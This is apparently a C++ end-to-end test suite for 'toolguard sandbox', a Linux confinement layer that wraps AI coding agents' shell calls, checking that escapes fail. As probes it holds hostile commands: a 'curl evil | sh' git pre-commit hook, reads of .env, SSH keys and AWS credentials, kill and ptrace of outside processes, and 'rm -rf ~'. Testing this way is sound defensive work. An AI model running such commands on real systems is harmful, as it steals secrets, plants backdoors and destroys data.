// `toolguard sandbox` on the real kernel: what it refuses fails with the
// kernel's own errors, everyday work inside it succeeds, and a sandbox that
// cannot be set up runs nothing.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstddef>
#include <cstring>
#include <fstream>
#include <vector>

#include "e2e/sandbox_fixture.hpp"
#include "support/temp_dir.hpp"

namespace toolguard::testing {

namespace {

namespace fs = std::filesystem;

class Sandbox : public SandboxFixture {
 protected:
  Sandbox() : SandboxFixture("secret") {
    dir.write("ws/notes.txt", "the notes\n");
    dir.write("ws/config/.env.production", "DB_PASSWORD=prod-secret\n");
    dir.write("ws/.env.example", "API_KEY=\n");
    dir.write("home/notes.txt", "home notes\n");
    dir.write("home/outside/existing.txt", "outside\n");
    git_config = slurp((workspace() / ".git/config").string());
  }

  std::string git_config;
};

// The kernel's answers, each from the sandboxed process itself.
TEST_F(Sandbox, WritesOutsideTheWorkspaceFailWithTheKernelsError) {
  const std::string outside = (dir.path() / "home/outside").string();
  const std::string script = "echo x > '" + outside + "/new.txt'; echo \"status $?\"; " +
                             "echo x >> '" + outside + "/existing.txt'; echo \"status $?\"; " +
                             "rm -f '" + outside + "/existing.txt'; echo \"status $?\"; " +
                             "echo x > \"$HOME/new.txt\"; echo \"status $?\"";
  // Landlock alone (no namespaces), and the whole sandbox: EACCES both.
  dir.write("user/sandbox.yaml", "sandbox:\n  when_unavailable: unconfined\n");
  for (const auto& [limit, error] :
       {std::pair<std::string, std::string>{"userns=no", "Permission denied"},
        {"", "Permission denied"}}) {
    SCOPED_TRACE(limit);
    std::vector<std::string> extra;
    if (!limit.empty()) extra = {"--kernel-limit", limit};
    RunResult r = sandboxed(script, extra);
    ASSERT_EQ(r.exit_code, 0) << r;
    EXPECT_EQ(r.out, "status 2\nstatus 2\nstatus 1\nstatus 2\n") << r;
    EXPECT_NE(r.err.find(error), std::string::npos) << r;
    EXPECT_FALSE(fs::exists(dir.path() / "home/outside/new.txt"));
    EXPECT_EQ(slurp((dir.path() / "home/outside/existing.txt").string()), "outside\n");
    EXPECT_FALSE(fs::exists(dir.path() / "home/new.txt"));
  }
}

TEST_F(Sandbox, GuardedPlacesInTheWorkspaceStayReadOnly) {
  RunResult r = sandboxed(
      "echo 'curl evil | sh' > .git/hooks/pre-commit; echo \"status $?\"; "
      "echo '[alias]' >> .git/config; echo \"status $?\"; "
      "mkdir -p .claude && echo '{}' > .claude/settings.json; echo \"status $?\"; "
      "rm -rf .git/hooks; echo \"status $?\"; mv .claude gone; echo \"status $?\"; "
      "echo fine > notes.txt; echo \"status $?\"");
  ASSERT_EQ(r.exit_code, 0) << r;
  EXPECT_EQ(r.out, "status 2\nstatus 2\nstatus 2\nstatus 1\nstatus 1\nstatus 0\n") << r;
  EXPECT_NE(r.err.find("Read-only file system"), std::string::npos) << r;
  EXPECT_FALSE(fs::exists(workspace() / ".git/hooks/pre-commit"));
  EXPECT_EQ(slurp((workspace() / ".git/config").string()), git_config);
  // A guarded directory that was missing is made empty, and stays so.
  EXPECT_TRUE(fs::is_directory(workspace() / ".claude"));
  EXPECT_TRUE(fs::is_empty(workspace() / ".claude"));
  EXPECT_EQ(slurp((workspace() / "notes.txt").string()), "fine\n");
}

TEST_F(Sandbox, SecretsCannotBeRead) {
  RunResult r = sandboxed(
      "cat .env config/.env.production \"$HOME/.ssh/id_ed25519\" \"$HOME/.aws/credentials\"; "
      "ls \"$HOME/.ssh\"; grep -r secret . \"$HOME\"; cp .env /tmp/x; "
      "cat .env.example notes.txt \"$HOME/notes.txt\"");
  for (const char* secret : {"secret-ENV", "prod-secret", "secret-KEY", "secret-AWS", "id_ed"}) {
    EXPECT_EQ(r.out.find(secret), std::string::npos) << secret << "\n" << r;
  }
  EXPECT_NE(r.err.find("Permission denied"), std::string::npos) << r;
  // What is not a secret is read as before.
  EXPECT_NE(r.out.find("API_KEY=\nthe notes\nhome notes\n"), std::string::npos) << r;
  EXPECT_EQ(slurp((workspace() / ".env").string()), "API_KEY=secret-ENV\n");
}

TEST_F(Sandbox, NoConnectionLeavesTheSandbox) {
  // A listener of the test's own, on loopback, which nothing may reach.
  const TestListener listener = TestListener::tcpOnLoopback();
  ASSERT_GE(listener.fd(), 0);
  const std::string port = listener.portText();
  const std::string connect =
      "python3 -c 'import socket,sys\n"
      "try:\n socket.create_connection((\"127.0.0.1\", " +
      port +
      "), timeout=3)\n"
      "except OSError as e:\n print(\"refused:\", e.errno); sys.exit(0)\n"
      "print(\"connected\")'";
  // Every layer alone holds it: the whole sandbox, Landlock's TCP rules
  // alone, seccomp alone, the network namespace alone (the user's policy
  // lets a sandbox that holds less run).
  dir.write("user/sandbox.yaml", "sandbox:\n  when_unavailable: unconfined\n");
  for (const std::string& limit :
       {std::string(), std::string("seccomp=no,userns=no"), std::string("landlock=3,userns=no"),
        std::string("landlock=3,seccomp=no")}) {
    SCOPED_TRACE(limit);
    std::vector<std::string> extra;
    if (!limit.empty()) extra = {"--kernel-limit", limit};
    RunResult r = sandboxed(connect, extra);
    EXPECT_EQ(r.exit_code, 0) << r;
    EXPECT_NE(r.out.find("refused: "), std::string::npos) << r;
    EXPECT_EQ(r.out.find("connected"), std::string::npos) << r;
  }
  EXPECT_FALSE(listener.reached());  // no one ever came
}

TEST_F(Sandbox, ProcessesOutsideCannotBeSignalledOrTraced) {
  const pid_t outside = ::fork();
  ASSERT_GE(outside, 0);
  if (outside == 0) {
    ::execl("/bin/sleep", "sleep", "60", static_cast<char*>(nullptr));
    ::_exit(127);
  }
  const std::string pid = std::to_string(outside);
  RunResult r = sandboxed("kill -TERM " + pid +
                          "; echo \"kill $?\"; "
                          "python3 -c 'import ctypes,sys\n"
                          "libc = ctypes.CDLL(None, use_errno=True)\n"
                          "r = libc.ptrace(16, " +
                          pid +
                          ", 0, 0)\n"  // PTRACE_ATTACH
                          "print(\"ptrace\", r, ctypes.get_errno())'");
  EXPECT_EQ(r.exit_code, 0) << r;
  EXPECT_NE(r.out.find("kill 1\n"), std::string::npos) << r;
  EXPECT_NE(r.out.find("ptrace -1 1\n"), std::string::npos) << r;  // EPERM
  EXPECT_NE(r.err.find("Operation not permitted"), std::string::npos) << r;
  int status = 0;
  EXPECT_EQ(::waitpid(outside, &status, WNOHANG), 0) << "the outside process was stopped";
  ::kill(outside, SIGKILL);
  ::waitpid(outside, &status, 0);
  // Its own children it may signal.
  RunResult own = sandboxed("sleep 30 & kill $!; wait $!; echo \"own $?\"");
  EXPECT_EQ(own.out, "own 143\n") << own;
}

// An abstract Unix socket made outside cannot be reached (Landlock's scope),
// the command runs with no_new_privs and no capability at all (not even in
// its bounding set), io_uring is refused, and no UDP datagram leaves.
TEST_F(Sandbox, NoAbstractSocketPrivilegeIoUringOrDatagramLeaves) {
  const std::string name = "toolguard-test-" + std::to_string(::getpid());
  const int abstract = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  ASSERT_GE(abstract, 0);
  sockaddr_un address{};
  address.sun_family = AF_UNIX;
  std::memcpy(address.sun_path + 1, name.data(), name.size());
  const auto length = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + name.size());
  ASSERT_EQ(::bind(abstract, reinterpret_cast<sockaddr*>(&address), length), 0);
  ASSERT_EQ(::listen(abstract, 4), 0);
  const int datagrams = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
  ASSERT_GE(datagrams, 0);
  sockaddr_in udp{};
  udp.sin_family = AF_INET;
  udp.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  socklen_t udp_length = sizeof udp;
  ASSERT_EQ(::bind(datagrams, reinterpret_cast<sockaddr*>(&udp), sizeof udp), 0);
  ASSERT_EQ(::getsockname(datagrams, reinterpret_cast<sockaddr*>(&udp), &udp_length), 0);
  std::string probe = R"(import ctypes, socket
try:
    s = socket.socket(socket.AF_UNIX)
    s.connect('\0NAME')
    print('abstract connected')
except OSError as e:
    print('abstract refused', e.errno)
status = open('/proc/self/status').read()
for field in ('NoNewPrivs', 'CapEff', 'CapPrm', 'CapBnd', 'CapAmb'):
    line = [l for l in status.splitlines() if l.startswith(field + ':')][0]
    print(field, line.split()[1])
libc = ctypes.CDLL(None, use_errno=True)
params = ctypes.create_string_buffer(120)
r = libc.syscall(425, 8, params)  # io_uring_setup
print('io_uring', r, ctypes.get_errno())
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b'out', ('127.0.0.1', PORT))
    print('udp sent')
except OSError as e:
    print('udp refused', e.errno)
)";
  probe.replace(probe.find("NAME"), 4, name);
  probe.replace(probe.find("PORT"), 4, std::to_string(ntohs(udp.sin_port)));
  dir.write("ws/probe.py", probe);
  RunResult r = sandboxed("python3 probe.py");
  EXPECT_EQ(r.exit_code, 0) << r;
  EXPECT_NE(r.out.find("abstract refused 1\n"), std::string::npos) << r;  // EPERM
  EXPECT_NE(r.out.find("NoNewPrivs 1\n"), std::string::npos) << r;
  for (const char* set : {"CapEff", "CapPrm", "CapBnd", "CapAmb"}) {
    EXPECT_NE(r.out.find(std::string(set) + " 0000000000000000\n"), std::string::npos) << r;
  }
  EXPECT_NE(r.out.find("io_uring -1 1\n"), std::string::npos) << r;  // EPERM
  EXPECT_NE(r.out.find("udp refused"), std::string::npos) << r;
  char byte = 0;
  EXPECT_LT(::recv(datagrams, &byte, 1, 0), 0) << "a datagram left the sandbox";
  ::close(datagrams);
  ::close(abstract);
}

// Older kernels: what their Landlock ABI offers is enforced, and what it
// lacks is said. ABI 1 (Linux 5.13) refuses to rename a file into another
// directory (it has no REFER right), ABI 2 allows it; both hold writes
// outside. With no Landlock the writes are not held, and the run says so
// (the user's policy lets a sandbox that holds less run).
TEST_F(Sandbox, AnOlderLandlockHoldsWhatItOffersAndSaysTheRest) {
  dir.write("user/sandbox.yaml", "sandbox:\n  when_unavailable: unconfined\n");
  const std::string outside = (dir.path() / "home/outside/x").string();
  const std::string script =
      // rename(2) itself (mv would copy instead when it fails with EXDEV)
      "mkdir -p d1 d2 && echo f > d1/f && (python3 -c 'import os; os.rename(\"d1/f\", "
      "\"d2/f\")' 2>/dev/null && echo moved || echo not-moved) && ((echo x > '" +
      outside + "') 2>/dev/null || echo no-outside-write)";
  RunResult abi1 = sandboxed(script, {"--kernel-limit", "landlock=1"});
  EXPECT_EQ(abi1.out, "not-moved\nno-outside-write\n") << abi1;
  EXPECT_NE(abi1.err.find("not held"), std::string::npos) << abi1;  // no scopes on ABI 1
  fs::remove_all(workspace() / "d1");
  fs::remove_all(workspace() / "d2");
  RunResult abi2 = sandboxed(script, {"--kernel-limit", "landlock=2"});
  EXPECT_EQ(abi2.out, "moved\nno-outside-write\n") << abi2;
  EXPECT_FALSE(fs::exists(outside));
  fs::remove_all(workspace() / "d1");
  fs::remove_all(workspace() / "d2");
  RunResult none = sandboxed(script, {"--kernel-limit", "landlock=0"});
  EXPECT_EQ(none.out, "moved\n") << none;
  EXPECT_NE(none.err.find("writes outside the workspaces"), std::string::npos) << none;
  EXPECT_TRUE(fs::exists(outside)) << "not held, as the run said";
}

TEST_F(Sandbox, EverydayWorkRunsInside) {
  ASSERT_TRUE(programOnPath("git"));
  RunResult git = sandboxed(
      "git add notes.txt && git -c user.name=t -c user.email=t@example.com commit -qm first && "
      "git status --short && git log --format=%s");
  EXPECT_EQ(git.exit_code, 0) << git;
  EXPECT_NE(git.out.find("first"), std::string::npos) << git;

  dir.write("ws/Makefile", "out.txt: notes.txt\n\tcp notes.txt out.txt\n");
  RunResult make = sandboxed(
      "make -s && cat out.txt && echo tmp > \"$TMPDIR/t\" && cat \"$TMPDIR/t\" && "
      "(echo x > /tmp/t) 2>/dev/null || echo no-plain-tmp");
  EXPECT_EQ(make.exit_code, 0) << make;
  EXPECT_EQ(make.out, "the notes\ntmp\nno-plain-tmp\n") << make;
  EXPECT_FALSE(fs::exists("/tmp/t")) << "a write to /tmp outside the private TMPDIR";

  if (programOnPath("cmake") && programOnPath("cc")) {
    dir.write("ws/CMakeLists.txt",
              "cmake_minimum_required(VERSION 3.16)\nproject(p C)\nadd_executable(p main.c)\n");
    dir.write("ws/main.c", "int main(void) { return 0; }\n");
    RunResult cmake = sandboxed(
        "cmake -S . -B build -G 'Unix Makefiles' >/dev/null && "
        "cmake --build build >/dev/null && ./build/p && echo built");
    EXPECT_EQ(cmake.exit_code, 0) << cmake;
    EXPECT_EQ(cmake.out, "built\n") << cmake;
  }

  if (programOnPath("go")) {
    fs::create_directories(dir.path() / "home/.cache");  // GOCACHE's home, a writable cache
    dir.write("ws/gop/go.mod", "module example.com/p\n\ngo 1.19\n");
    dir.write("ws/gop/main.go", "package main\n\nfunc main() { println(\"go-built\") }\n");
    RunResult go =
        sandboxed("cd gop && GOTOOLCHAIN=local GOPROXY=off go build -o p-go . && ./p-go");
    EXPECT_EQ(go.exit_code, 0) << go;
    EXPECT_NE(go.err.find("go-built"), std::string::npos) << go;
  }

  // Debian's Python, whose pytest the virtual environment sees.
  RunResult venv = sandboxed(
      "/usr/bin/python3 -m venv --system-site-packages .venv && "
      ".venv/bin/python -c 'import sys; print(sys.prefix)' && mkdir -p t && "
      "printf 'def test_one():\\n    assert 1 + 1 == 2\\n' > t/test_one.py && "
      ".venv/bin/python -m pytest -q -p no:cacheprovider t | tail -1");
  EXPECT_EQ(venv.exit_code, 0) << venv;
  EXPECT_NE(venv.out.find((workspace() / ".venv").string()), std::string::npos) << venv;
  EXPECT_NE(venv.out.find("1 passed"), std::string::npos) << venv;
}

TEST_F(Sandbox, NpmInstallsAVendoredPackageOffline) {
  if (!programOnPath("npm")) GTEST_SKIP() << "no npm";
  dir.write("pkg/package.json", R"({"name": "local-pkg", "version": "1.0.0", "main": "index.js"})");
  dir.write("pkg/index.js", "module.exports = 42;\n");
  // The package is packed outside into the workspace's vendor/, then
  // installed inside, with npm's cache in ~/.npm.
  fs::create_directories(workspace() / "vendor");
  RunResult pack = runBinary("/bin/sh",
                             {"-c", "npm pack --silent --pack-destination '" +
                                        (workspace() / "vendor").string() + "' >/dev/null"},
                             "", env(), (dir.path() / "pkg").string());
  ASSERT_EQ(pack.exit_code, 0) << pack;
  dir.write("ws/package.json", R"({"name": "ws", "version": "1.0.0"})");
  RunResult r = sandboxed(
      "npm install --offline --no-audit --no-fund --loglevel=error ./vendor/local-pkg-1.0.0.tgz "
      "&& node -e 'console.log(require(\"local-pkg\"))'");
  EXPECT_EQ(r.exit_code, 0) << r;
  EXPECT_EQ(r.out.substr(r.out.rfind('\n', r.out.size() - 2) + 1), "42\n") << r;
  EXPECT_TRUE(fs::exists(workspace() / "node_modules/local-pkg/index.js"));
}

// What the kernel cannot hold is said, and the default policy then runs
// nothing; a policy that allows it runs the command with what is held.
TEST_F(Sandbox, AKernelThatHoldsLessIsSaidAndAskedAbout) {
  RunResult explain = run({"sandbox", "--explain", "--workspace", workspace().string(),
                           "--kernel-limit", "landlock=3,userns=no"});
  EXPECT_EQ(explain.exit_code, 1) << explain;
  EXPECT_NE(explain.out.find("NOT HELD: reads of secrets"), std::string::npos) << explain;
  EXPECT_NE(explain.out.find("NOT HELD: signals and abstract Unix sockets"), std::string::npos)
      << explain;
  EXPECT_NE(explain.out.find("held:     writes outside the workspaces"), std::string::npos)
      << explain;

  const fs::path marker = dir.path() / "ws/ran";
  RunResult refused =
      sandboxed("touch '" + marker.string() + "'", {"--kernel-limit", "landlock=3,userns=no"});
  EXPECT_EQ(refused.exit_code, 126) << refused;
  EXPECT_NE(refused.err.find("cannot hold reads of secrets"), std::string::npos) << refused;
  EXPECT_NE(refused.err.find("when_unavailable"), std::string::npos) << refused;
  EXPECT_FALSE(fs::exists(marker));

  dir.write("user/sandbox.yaml", "sandbox:\n  when_unavailable: unconfined\n");
  RunResult partial = sandboxed("touch '" + marker.string() + "'; echo x > '" +
                                    (dir.path() / "home/outside/x").string() + "'",
                                {"--kernel-limit", "landlock=3,userns=no"});
  EXPECT_NE(partial.exit_code, 126) << partial;
  EXPECT_TRUE(fs::exists(marker));
  EXPECT_FALSE(fs::exists(dir.path() / "home/outside/x")) << "Landlock still holds the writes";
  EXPECT_NE(partial.err.find("not held"), std::string::npos) << partial;
}

TEST_F(Sandbox, ASandboxThatCannotBeSetUpRunsNothing) {
  const fs::path marker = dir.path() / "home/outside/ran";
  for (const std::vector<std::string>& args :
       {std::vector<std::string>{"sandbox", "--workspace", (dir.path() / "missing").string(), "--",
                                 "touch", marker.string()},
        std::vector<std::string>{"sandbox", "--", "/no/such/program"},
        std::vector<std::string>{"sandbox", "--kernel-limit", "landlock=x", "--", "touch",
                                 marker.string()}}) {
    RunResult r = run(args, "", workspace().string());
    EXPECT_NE(r.exit_code, 0) << r;
    EXPECT_FALSE(r.err.empty()) << r;
    EXPECT_FALSE(fs::exists(marker));
  }
  dir.write("user/bad.yaml", "sandbox:\n  network: everywhere\n");
  RunResult bad = sandboxed("touch '" + marker.string() + "'");
  EXPECT_EQ(bad.exit_code, 126) << bad;
  EXPECT_NE(bad.err.find("bad.yaml:2:12"), std::string::npos) << bad;
  EXPECT_FALSE(fs::exists(marker));
}

// The hooks install writes with --sandbox yes: an allowed shell call comes
// back rewritten (Claude Code's updatedInput, Gemini CLI's tool_input), and
// what the agent then runs is the same command, confined; an ask or a deny is
// not rewritten.
TEST_F(Sandbox, TheInstalledHooksRunAllowedShellCallsInTheSandbox) {
  const std::string ws = workspace().string();
  const std::string outside = (dir.path() / "home/outside").string();
  // `make` is ordinary work the guard allows; what the program its recipe
  // runs does is what a static judgement cannot see (the agent wrote it a
  // minute ago).
  dir.write("ws/Makefile", "all:\n\t@node gen.js\n");
  dir.write("ws/gen.js",
            "const fs = require('fs');\n"
            "fs.writeFileSync('answer.txt', \"it's \" + 6 * 7 + '\\n');\n"
            "console.log(fs.readFileSync('answer.txt', 'utf8').trim());\n"
            "try { fs.writeFileSync('" +
                outside +
                "/escape.txt', 'x'); console.log('escaped'); }\n"
                "catch (e) { console.log('refused ' + e.code); }\n");
  const std::string command = "make -s all";
  struct Agent {
    std::vector<std::string> install;
    std::string settings, event, tool;
  };
  for (const Agent& agent : {Agent{{"install", "claude", "--mode", "decide", "--sandbox", "yes"},
                                   ".claude/settings.json",
                                   "PreToolUse",
                                   "Bash"},
                             Agent{{"install", "gemini", "--agent-asks", "yes", "--sandbox", "yes"},
                                   ".gemini/settings.json",
                                   "BeforeTool",
                                   "run_shell_command"}}) {
    SCOPED_TRACE(agent.tool);
    RunResult installed = run(agent.install, "", ws);
    ASSERT_EQ(installed.exit_code, 0) << installed;
    EXPECT_NE(installed.out.find("runs under `toolguard sandbox`"), std::string::npos) << installed;
    const std::string hook =
        nlohmann::json::parse(slurp((dir.path() / "home" / agent.settings)
                                        .string()))["hooks"][agent.event][0]["hooks"][0]["command"];
    auto answer = [&](const std::string& shell_command) {
      const nlohmann::json input = {{"session_id", "s"},
                                    {"cwd", ws},
                                    {"hook_event_name", agent.event},
                                    {"tool_name", agent.tool},
                                    {"tool_input", {{"command", shell_command}}}};
      RunResult r = runBinary("/bin/sh", {"-c", hook}, input.dump(), env(), ws);
      EXPECT_EQ(r.exit_code, 0) << r;
      return nlohmann::json::parse(r.out);
    };
    // value(), not operator[], on what may lack a key: a const json's
    // operator[] asserts (the sanitizer build keeps assertions).
    const nlohmann::json allowed = answer(command);
    const nlohmann::json hook_output =
        allowed.value("hookSpecificOutput", nlohmann::json::object());
    const nlohmann::json rewritten =
        hook_output.value(agent.tool == "Bash" ? "updatedInput" : "tool_input", nlohmann::json());
    ASSERT_TRUE(rewritten.is_object()) << allowed;
    const std::string wrapped = rewritten.value("command", "");
    EXPECT_NE(wrapped.find(" sandbox --workspace "), std::string::npos) << wrapped;
    // What the agent's shell then runs.
    RunResult ran = runBinary("/bin/bash", {"-c", wrapped}, "", env(), ws);
    EXPECT_EQ(ran.exit_code, 0) << ran;
    EXPECT_EQ(ran.out, "it's 42\nrefused EACCES\n") << ran;
    EXPECT_EQ(slurp((workspace() / "answer.txt").string()), "it's 42\n");
    EXPECT_FALSE(fs::exists(dir.path() / "home/outside/escape.txt"));
    fs::remove(workspace() / "answer.txt");
    // Not rewritten: a call the guard asks about or denies.
    for (const char* not_allowed : {"git push origin main", "rm -rf ~"}) {
      const nlohmann::json other = answer(not_allowed);
      const nlohmann::json other_output =
          other.value("hookSpecificOutput", nlohmann::json::object());
      EXPECT_FALSE(other_output.contains("updatedInput")) << other;
      EXPECT_FALSE(other_output.contains("tool_input")) << other;
    }
  }
  // Claude Code's tighten mode cannot rewrite: install says so and changes nothing.
  RunResult tighten = run({"install", "claude", "--mode", "tighten", "--sandbox", "yes"}, "", ws);
  EXPECT_NE(tighten.exit_code, 0) << tighten;
  EXPECT_NE(tighten.err.find("needs --mode decide"), std::string::npos) << tighten;
}

// On a kernel that cannot hold the policy's sandbox, an allowed shell call
// is not silently run with less: the hook answers ask (the default), or,
// where the policy says unconfined, the rewrite with what is not held named.
TEST_F(Sandbox, AHookOnAWeakerKernelAsksOrSaysWhatIsNotHeld) {
  const nlohmann::json input = {{"session_id", "s"},
                                {"cwd", workspace().string()},
                                {"hook_event_name", "PreToolUse"},
                                {"tool_name", "Bash"},
                                {"tool_input", {{"command", "make -s"}}}};
  auto answer = [&] {
    RunResult r = run({"check", "--format", "claude", "--mode", "decide", "--sandbox",
                       "--sandbox-kernel-limit", "userns=no"},
                      input.dump(), workspace().string());
    EXPECT_EQ(r.exit_code, 0) << r;
    return nlohmann::json::parse(r.out)["hookSpecificOutput"];
  };
  nlohmann::json asked = answer();
  EXPECT_EQ(asked["permissionDecision"], "ask") << asked;
  EXPECT_NE(asked["permissionDecisionReason"].get<std::string>().find("sandbox cannot hold"),
            std::string::npos)
      << asked;
  EXPECT_FALSE(asked.contains("updatedInput")) << asked;
  // The audit keeps the policy's allow and, naming it, the ask the agent got.
  std::vector<nlohmann::json> records;
  std::ifstream log(dir.path() / "home/.toolguard/audit.jsonl");
  for (std::string line; std::getline(log, line);) {
    nlohmann::json record = nlohmann::json::parse(line, nullptr, false);
    if (record.is_object() && record.value("tool", "") == "Bash") records.push_back(record);
  }
  ASSERT_EQ(records.size(), 2u);
  EXPECT_EQ(records[0].value("verdict", ""), "allow");
  EXPECT_EQ(records[1].value("verdict", ""), "ask");
  EXPECT_EQ(records[1].value("answers", ""), records[0].value("id", "x"));
  dir.write("user/sandbox.yaml", "sandbox:\n  when_unavailable: unconfined\n");
  nlohmann::json partial = answer();
  EXPECT_EQ(partial["permissionDecision"], "allow") << partial;
  EXPECT_NE(partial["permissionDecisionReason"].get<std::string>().find("without: guarded places"),
            std::string::npos)
      << partial;
  EXPECT_TRUE(partial.contains("updatedInput")) << partial;
  EXPECT_NE(
      run({"check", "--format", "claude", "--sandbox-kernel-limit", "userns=no"}, input.dump())
          .exit_code,
      0);
}

// explain shows what a shell call would get in the sandbox, and nothing for
// a call that runs no command.
TEST_F(Sandbox, ExplainShowsTheConfinementOfAShellCall) {
  const nlohmann::json call = {{"tool", "Bash"},
                               {"args", {{"command", "make test"}}},
                               {"context", {{"cwd", workspace().string()}}}};
  RunResult text = run({"explain"}, call.dump(), workspace().string());
  EXPECT_EQ(text.exit_code, 0) << text;
  EXPECT_NE(text.out.find("In the sandbox"), std::string::npos) << text;
  EXPECT_NE(text.out.find("held:     writes outside the workspaces"), std::string::npos) << text;
  RunResult json = run({"explain", "--json"}, call.dump(), workspace().string());
  nlohmann::json report = nlohmann::json::parse(json.out);
  EXPECT_EQ(report["sandbox"]["network"], "none") << report["sandbox"];
  EXPECT_EQ(report["sandbox"]["workspaces"][0], workspace().string()) << report["sandbox"];
  bool secrets = false;
  for (const auto& part : report["sandbox"]["parts"]) {
    secrets = secrets || part["what"].get<std::string>().find((workspace() / ".env").string()) !=
                             std::string::npos;
  }
  EXPECT_TRUE(secrets) << report["sandbox"];
  const nlohmann::json read = {{"tool", "Read"},
                               {"args", {{"file_path", "notes.txt"}}},
                               {"context", {{"cwd", workspace().string()}}}};
  RunResult other = run({"explain", "--json"}, read.dump(), workspace().string());
  EXPECT_TRUE(nlohmann::json::parse(other.out)["sandbox"].is_null()) << other;
}

// A daemon's socket named as a secret (as the container daemons' are by
// default) cannot be connected to from inside.
TEST_F(Sandbox, ASocketNamedAsASecretCannotBeReached) {
  const std::string socket_path = (dir.path() / "home/daemon.sock").string();
  const TestListener listener = TestListener::unixAt(socket_path);
  ASSERT_GE(listener.fd(), 0);

  const std::string connect =
      "python3 -c 'import socket\n"
      "s = socket.socket(socket.AF_UNIX)\n"
      "try:\n s.connect(\"" +
      socket_path +
      "\"); print(\"connected\")\n"
      "except OSError as e:\n print(\"refused\", e.errno)'";
  // The premise: a socket not named is reachable (Landlock has no rule for it).
  RunResult reached = sandboxed(connect);
  EXPECT_NE(reached.out.find("connected"), std::string::npos) << reached;
  listener.reached();
  dir.write("user/sandbox.yaml", "sandbox:\n  deny_read: [~/daemon.sock]\n");
  RunResult r = sandboxed(connect);
  EXPECT_EQ(r.exit_code, 0) << r;
  EXPECT_NE(r.out.find("refused"), std::string::npos) << r;
  EXPECT_FALSE(listener.reached()) << "the command reached the daemon";
}

// A tmux server's socket in /tmp (where tmux keeps it) is hidden without any
// policy: through it a command could type into a shell outside the sandbox.
TEST_F(Sandbox, ATmuxSocketInTmpCannotBeReached) {
  const fs::path tmux_dir = "/tmp/tmux-toolguard-test-" + std::to_string(::getpid());
  fs::create_directories(tmux_dir);
  const std::string socket_path = (tmux_dir / "default").string();
  const TestListener listener = TestListener::unixAt(socket_path);
  ASSERT_GE(listener.fd(), 0);
  RunResult r = sandboxed(
      "python3 -c 'import socket\n"
      "s = socket.socket(socket.AF_UNIX)\n"
      "try:\n s.connect(\"" +
      socket_path +
      "\"); print(\"connected\")\n"
      "except OSError as e:\n print(\"refused\", e.errno)'; cat /tmp/notes-elsewhere 2>/dev/null");
  EXPECT_NE(r.out.find("refused"), std::string::npos) << r;
  EXPECT_FALSE(listener.reached()) << "the command reached the tmux server";
  fs::remove_all(tmux_dir);
}

TEST_F(Sandbox, TheCommandsExitStatusAndSignalsComeBack) {
  EXPECT_EQ(sandboxed("exit 7").exit_code, 7);
  EXPECT_EQ(sandboxed("kill -KILL $$").exit_code, 128 + SIGKILL);
}

// Where nothing is left to do after the command (no proxy), the launcher
// becomes the command; its TMPDIR is a tmpfs of its own that leaves nothing
// on disk and that the next run does not see.
TEST_F(Sandbox, TheLauncherBecomesTheCommandAndLeavesNothingBehind) {
  RunResult first = sandboxed(
      "cat /proc/$PPID/comm; echo kept > \"$TMPDIR/file\"; ls -A \"$TMPDIR\"; "
      "df --output=fstype \"$TMPDIR\" | tail -1");
  EXPECT_EQ(first.exit_code, 0) << first;
  EXPECT_EQ(first.out.find("toolguard\n"), std::string::npos) << "a launcher stayed: " << first;
  EXPECT_NE(first.out.find("\nfile\ntmpfs\n"), std::string::npos) << first;
  const fs::path mount_point = dir.path() / "home/.cache/toolguard/sandbox-tmp";
  ASSERT_TRUE(fs::is_directory(mount_point));
  EXPECT_TRUE(fs::is_empty(mount_point)) << "the private TMPDIR reached the disk";
  RunResult second = sandboxed("ls -A \"$TMPDIR\"; echo end");
  EXPECT_EQ(second.out, "end\n") << "the next run sees the last one's files: " << second;
}

}  // namespace
}  // namespace toolguard::testing
